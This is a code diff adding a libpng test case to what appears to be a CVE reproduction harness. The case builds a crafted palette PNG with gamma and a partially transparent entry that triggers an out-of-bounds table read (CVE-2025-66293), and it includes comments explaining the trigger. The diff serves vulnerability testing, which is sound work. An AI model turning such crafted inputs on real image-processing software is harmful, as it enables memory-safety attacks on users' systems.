@@ -257,6 +257,62 @@ def expat_get_buffer_overflow(pkg: ModuleType, lib: Any) -> int:
     return int(plain(lib.XML_ParseBuffer(parser, FILL, 0)))
 
 
+# -- libpng 1.6.39: CVE-2025-66293 ------------------------------------------------------
+# The simplified API reads an image with transparency into a format without alpha by
+# composing each pixel on what the caller's buffer holds (png_image_read_composite): it
+# expects linear components premultiplied by alpha (so never above it) and looks the sum
+# ``component * 65535 + (255 - alpha) * background`` up in png_sRGB_base[512] by its top
+# bits. A palette image with gamma correction has its palette composed by libpng
+# instead, which hands over sRGB-encoded components, above alpha: a white entry of alpha
+# 240 (component 248) on a white background looks up entry 525.
+
+PNG_ALPHAS = (0, 255, 240)  # the entries' alpha (all white): unchanged, opaque, the attack
+
+
+def png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def palette_png(alphas: tuple[int, ...]) -> bytes:
+    """A one-row palette PNG of gamma 1/2.2: one pixel per palette entry, each entry
+    white with its alpha from ``alphas``."""
+    n = len(alphas)
+    return b"".join((b"\x89PNG\r\n\x1a\n",
+                     png_chunk(b"IHDR", struct.pack(">IIBBBBB", n, 1, 8, 3, 0, 0, 0)),
+                     png_chunk(b"gAMA", struct.pack(">I", 45455)),
+                     png_chunk(b"PLTE", b"\xff\xff\xff" * n),
+                     png_chunk(b"tRNS", bytes(alphas)),
+                     png_chunk(b"IDAT", zlib.compress(b"\0" + bytes(range(n)))),
+                     png_chunk(b"IEND", b"")))
+
+
+class PngRead:
+    """A simplified-API read of ``data`` begun (png_image_begin_read_from_memory)."""
+
+    def __init__(self, pkg: ModuleType, lib: Any, data: bytes) -> None:
+        self.lib = lib
+        self.image, _ = lib.new(pkg.png_image)
+        self.image.version = pkg.PNG_IMAGE_VERSION
+        self.data = lib.copy_in(data)  # read from until the image is freed
+        self.rgb = pkg.PNG_FORMAT_RGB
+        assert plain(lib.png_image_begin_read_from_memory(self.image, self.data.address,
+                                                           len(data))) == 1
+
+    def finish(self, background: int) -> bytes:
+        """The RGB pixels png_image_finish_read composes on a buffer of ``background``
+        bytes."""
+        self.image.format = self.rgb
+        size = 3 * int(plain(self.image.width)) * int(plain(self.image.height))
+        pixels = self.lib.copy_in(bytes([background]) * size)
+        assert plain(self.lib.png_image_finish_read(self.image, 0, pixels.address, 0, 0)) == 1
+        return bytes(plain(pixels.read()))
+
+
+def png_composite_overread(pkg: ModuleType, lib: Any) -> bytes:
+    """CVE-2025-66293: a palette entry of partial alpha composed on white."""
+    return PngRead(pkg, lib, palette_png(PNG_ALPHAS)).finish(0xFF)
+
+
 CASES = {case.name: case for case in (
     Case("CVE-2022-37434", CVES / "zlib_1_2_11" / "zlib.toml", zlib_extra_overflow,
          "inflate"),
@@ -266,6 +322,8 @@ CASES = {case.name: case for case in (
          "BuildHuffmanTable"),
     Case("CVE-2022-23852", CVES / "expat_2_2_10" / "expat.toml", expat_get_buffer_overflow,
          "XML_GetBuffer"),
+    Case("CVE-2025-66293", CVES / "libpng_1_6_39" / "libpng.toml", png_composite_overread,
+         "png_image_read_composite"),
 )}
 
 
